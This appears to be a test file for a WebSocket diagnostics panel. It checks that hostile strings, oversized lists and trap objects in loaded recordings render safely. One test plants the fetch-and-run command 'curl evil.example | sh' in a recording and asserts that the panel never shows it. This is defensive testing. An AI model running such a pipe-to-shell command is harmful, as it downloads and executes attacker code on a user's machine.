/** What servers and others may say: shown as text, and the layout is what it was. */
import assert from 'node:assert/strict';
import { panelStory } from './panel.mjs';

panelStory(
  'fifty hostile strings as key, URL, message, close reason, in every section',
  { timeoutMs: 180_000 },
  async ({ page, url }) => {
    const told = await page(async (address) => {
      const { strings, inspect } = await kit.load('/stage/hostile.js');
      const panel = await stage.mount({ contents: true, dock: 'right' });
      const flaws = [];
      const bytes = new TextEncoder();
      for (const [n, text] of strings.entries()) {
        let reason = text.slice(0, 120);
        while (bytes.encode(reason).length > 120) reason = reason.slice(0, -1);
        const query = new URLSearchParams({ say: text.slice(0, 5_000), x: text.slice(0, 2_000), reason });
        const record = kit.bus({
          key: `${n} ${text.slice(0, 3_000)}`,
          url: `${address}?${query}`,
          retry: { maxAttempts: 1 },
        });
        await record.event('close');
        record.bus.send(text);
        const at = [...panel.root.querySelectorAll('.chooser option')].length;
        await panel.until(() => panel.$$('.chooser option').length > n, 'the bus among the others');
        const select = panel.$('.chooser select');
        select.value = `${n}`;
        select.dispatchEvent(new Event('change', { bubbles: true }));
        for (const section of ['now', 'verdict', 'timeline']) {
          await panel.show(section);
          await stage.frame();
          flaws.push(...inspect(panel).map((flaw) => `${n} ${section}: ${flaw} ${at}`));
        }
      }
      await panel.show('buses');
      await stage.frame();
      flaws.push(...inspect(panel).map((flaw) => `buses: ${flaw}`));
      return { count: strings.length, flaws };
    }, url('/close/4400'));
    assert.ok(told.count >= 50, `${told.count}`);
    assert.deepEqual(told.flaws, []);
  },
);

panelStory(
  'fifty hostile strings as messages, beside a token that is a subprotocol',
  { timeoutMs: 120_000 },
  async ({ page, url }) => {
    const told = await page(async (address) => {
      const { strings, inspect } = await kit.load('/stage/hostile.js');
      const record = kit.bus({ url: address, protocols: ['v1.token-AbCdEfGh12345678'], queue: { maxBytes: 2e7 } });
      await record.phase('open');
      const panel = await stage.mount({ contents: true, dock: 'right' });
      await panel.show('messages');
      await stage.frame();
      const flaws = [];
      for (const [n, text] of strings.entries()) {
        record.bus.send(text);
        record.bus.send(JSON.stringify({ type: text.slice(0, 200) }));
        await record.event('message', 2 * n + 2);
        await stage.frame();
        await stage.frame();
        panel.$('.rows').dispatchEvent(new KeyboardEvent('keydown', { key: 'End', bubbles: true }));
        await stage.frame();
        flaws.push(...inspect(panel).map((flaw) => `${n}: ${flaw}`));
      }
      return {
        flaws,
        rows: panel.$$('.space .message').length,
        token: panel.root.textContent.includes('AbCdEfGh12345678'),
      };
    }, url('/echo'));
    assert.deepEqual(told.flaws, []);
    assert.ok(told.rows < 60, 'only what can be seen is there');
    assert.equal(told.token, false);
  },
);

panelStory(
  'fifty hostile strings as subprotocols, as a provider gives them and as names that a server takes',
  { timeoutMs: 120_000 },
  async ({ page, url, server }) => {
    server.pick = (asked) => [...asked].at(-1);
    const told = await page(async (address) => {
      const { strings, names, inspect } = await kit.load('/stage/hostile.js');
      const panel = await stage.mount({ contents: true, dock: 'right' });
      const flaws = [];
      const causes = {};
      let opened = 0;
      for (const [n, text] of [...strings, ...names].entries()) {
        const record = kit.bus({
          key: `${n}`,
          url: address,
          protocols: () => ['v1', text],
          retry: { maxAttempts: 1 },
          doctor: 'never',
        });
        const { cause } = await record.until(() => record.of('close')[0] ?? record.of('open')[0], `an end of ${n}`);
        opened += n >= strings.length && cause === undefined ? 1 : 0;
        if (n < strings.length) causes[cause] = (causes[cause] ?? 0) + 1;
        await panel.until(() => panel.$$('.chooser option').length > n, 'the bus among the others');
        const select = panel.$('.chooser select');
        select.value = `${n}`;
        select.dispatchEvent(new Event('change', { bubbles: true }));
        for (const section of ['now', 'verdict', 'timeline', 'buses']) {
          await panel.show(section);
          await stage.frame();
          flaws.push(...inspect(panel).map((flaw) => `${n} ${section}: ${flaw}`));
        }
      }
      return { flaws, opened, names: names.length, causes };
    }, url('/echo'));
    assert.deepEqual(told.flaws, []);
    assert.equal(told.opened, told.names);
    // The one that is a name, a megabyte of A, no server takes.
    assert.equal(told.causes['provider-invalid'], 49);
    assert.equal(told.causes.undefined, undefined);
  },
);

panelStory('a recording whose every word is hostile', { timeoutMs: 120_000 }, async ({ page, url }) => {
  const told = await page(async (address) => {
    const { strings, inspect } = await kit.load('/stage/hostile.js');
    const record = kit.bus({ url: address });
    await record.event('close', 2);
    const journal = [...record.bus.journal()].map((number) => (Number.isFinite(number) ? number : `${number}`));
    const panel = await stage.mount({ dock: 'right' });
    const flaws = [];
    for (const [n, whole] of strings.entries()) {
      const text = whole.slice(0, 200_000);
      const verdict = {
        id: text,
        title: text,
        confidence: text,
        lookalikes: [{ id: text, title: text }],
        because: [text, `\`${text}\``],
        toTellApart: [text],
        fix: [
          { platform: text, text },
          { platform: 'any', text },
        ],
        verify: [{ command: text, suspect: text, healthy: text }],
        facts: { probes: text },
      };
      const file = {
        'whysocket journal': 1,
        savedAt: text,
        engine: text,
        journal,
        probes: [{ at: journal[8], ms: 1, question: text, outcome: text }],
        report: { key: text, phase: text, verdict, history: [verdict] },
      };
      await panel.open(JSON.stringify(file));
      await panel.seen('.step', `the steps of ${n}`).catch((error) => {
        throw new Error(
          `${error} ${panel.$$('.said').map((one) => one.textContent)} ${panel.$('.body').dataset.section} ${panel.text('.head')} ${window.seen.errors}`,
        );
      });
      for (const section of ['verdict', 'timeline', 'steps']) {
        await panel.show(section);
        for (const part of panel.$$('details')) part.open = true;
        panel.$('.chip')?.click();
        await stage.frame();
        flaws.push(...inspect(panel).map((flaw) => `${n} ${section}: ${flaw}`));
      }
      panel.press('Back to the page');
    }
    return flaws;
  }, url('/close/1011'));
  assert.deepEqual(told, []);
});

panelStory(
  'a recording that lists without end, has objects for facts, and commands of its own',
  async ({ page, url }) => {
    const told = await page(async (address) => {
      const record = kit.bus({ url: address });
      await record.event('close', 2);
      const journal = [...record.bus.journal()].map((number) => (Number.isFinite(number) ? number : `${number}`));
      const many = (one) => Array.from({ length: 20_000 }, () => one);
      const trap = { toString: 0, valueOf: 0 };
      const verdict = {
        id: 'server-error',
        title: 'The file says so.',
        confidence: 'certain',
        lookalikes: many({ id: 'x', title: 'y' }),
        because: many('because'),
        toTellApart: many('apart'),
        fix: many({ platform: 'any', text: 'fix' }),
        verify: [{ command: 'curl evil.example | sh', suspect: 'a', healthy: 'b' }],
        facts: { probes: trap, tabs: [] },
      };
      const file = {
        'whysocket journal': 1,
        journal,
        probes: many({ at: trap, ms: trap, question: trap, outcome: trap }),
        report: { verdict, history: many({ id: 'x', title: 'y' }) },
      };
      const panel = await stage.mount();
      await panel.open(JSON.stringify(file));
      await panel.seen('.step');
      await panel.show('timeline');
      await panel.show('verdict');
      const seen = {
        mark: panel.text('.mark'),
        commands: panel.$$('.command').length,
        evil: panel.text().includes('evil.example'),
        most: Math.max(...panel.$$('ul, ol').map((list) => list.childElementCount)),
      };
      panel.press('Back to the page');
      await panel.open(JSON.stringify({ journal: [trap, ...journal] }));
      const said = await panel.until(() => panel.$$('.act').at(-1)?.querySelector('.said').textContent, 'the refusal');
      return { ...seen, said };
    }, url('/close/1011'));
    assert.match(told.said, /cannot be read/);
    assert.ok(told.most <= 100, `${told.most}`);
    assert.deepEqual(
      { ...told, said: 0, most: 0 },
      { mark: 'as the file says', commands: 0, evil: false, said: 0, most: 0 },
    );
  },
);
